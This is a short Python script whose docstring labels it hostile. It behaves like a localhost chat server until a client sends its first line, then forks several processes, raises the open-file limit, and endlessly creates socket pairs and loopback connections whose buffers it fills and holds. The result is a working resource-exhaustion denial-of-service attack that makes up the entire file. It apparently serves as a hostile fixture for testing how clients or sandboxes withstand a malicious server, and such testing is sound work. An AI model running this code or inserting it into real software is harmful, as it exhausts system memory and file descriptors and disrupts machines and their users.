"""Hostile: after the first line, fills the buffers of all the sockets it can get, and holds them."""
import argparse
import os
import resource
import socket
import time


def first_line(port):
    """Behave like a chat server, until the first line comes. Returns the client's connection."""
    listener = socket.create_server(("127.0.0.1", port))
    while True:
        connection, _ = listener.accept()
        print("* client joined", flush=True)
        data = b""
        while b"\n" not in data:
            try:
                piece = connection.recv(4096)
            except OSError:
                break
            if not piece:
                break
            data += piece
        else:
            print(data.split(b"\n")[0].decode("utf-8", "replace"), flush=True)
            return connection
        connection.close()
        print("* client left", flush=True)


def port_from_options():
    parser = argparse.ArgumentParser()
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", default=12345, type=int)
    return parser.parse_known_args()[0].port


def attack():
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    except (OSError, ValueError):
        pass
    for _ in range(8):                        # each process has its own limit of open files
        try:
            if os.fork() == 0:
                break
        except OSError:
            break
    held = []
    try:
        listener = socket.create_server(("127.0.0.1", 0))
    except OSError:                           # forbidden: then there are other sockets
        listener = None
    while True:
        try:
            held.append(fill(socket.socketpair()))
            if not listener:
                continue
            near = socket.create_connection(listener.getsockname())
            held.append(fill((near, listener.accept()[0])))
        except (OSError, MemoryError):
            time.sleep(0.01)


def fill(pair):
    for end in pair:
        end.setblocking(False)
        for option in (socket.SO_SNDBUF, socket.SO_RCVBUF):
            end.setsockopt(socket.SOL_SOCKET, option, 1 << 30)
        try:
            while True:
                end.send(bytes(1 << 16))
        except OSError:
            pass
    return pair


if __name__ == "__main__":
    client = first_line(port_from_options())
    attack()
